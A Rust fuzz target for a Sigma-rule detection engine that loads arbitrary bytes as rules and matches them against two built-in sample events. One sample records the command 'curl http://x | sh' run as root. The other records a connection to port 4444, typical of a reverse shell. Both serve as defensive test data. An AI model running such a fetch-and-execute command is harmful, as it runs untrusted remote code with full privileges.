//! Any bytes as a Sigma rule file: loading must report problems, never panic, and whatever
//! compiles must evaluate events without panicking.
#![no_main]

use std::path::Path;
use std::sync::OnceLock;

use libfuzzer_sys::fuzz_target;
use vigil_detect::RuleSet;
use vigil_ocsf::Event;
use vigil_ocsf::fieldmap::FieldMaps;

fn maps() -> &'static FieldMaps {
    static MAPS: OnceLock<FieldMaps> = OnceLock::new();
    MAPS.get_or_init(|| FieldMaps::builtin().expect("builtin field maps"))
}

fn events() -> &'static [Event] {
    static EVENTS: OnceLock<Vec<Event>> = OnceLock::new();
    EVENTS.get_or_init(|| {
        [
            r#"{"class_uid":1007,"activity_id":1,"time":1,"process":{"file":{"path":"/usr/bin/curl"},"cmd_line":"curl http://x | sh","user":{"name":"root"}},"actor":{"process":{"file":{"path":"/bin/bash"}}}}"#,
            r#"{"class_uid":4001,"activity_id":1,"time":2,"src_endpoint":{"ip":"10.0.0.5","port":41000},"dst_endpoint":{"ip":"203.0.113.9","port":4444}}"#,
        ]
        .iter()
        .map(|j| Event::from_json(j.as_bytes()).expect("a valid event"))
        .collect()
    })
}

fuzz_target!(|data: &[u8]| {
    let text = String::from_utf8_lossy(data);
    let (set, _report) = RuleSet::load_str(&text, Path::new("fuzz.yml"), maps());
    for ev in events() {
        let _ = set.matches_all(ev).count();
    }
});
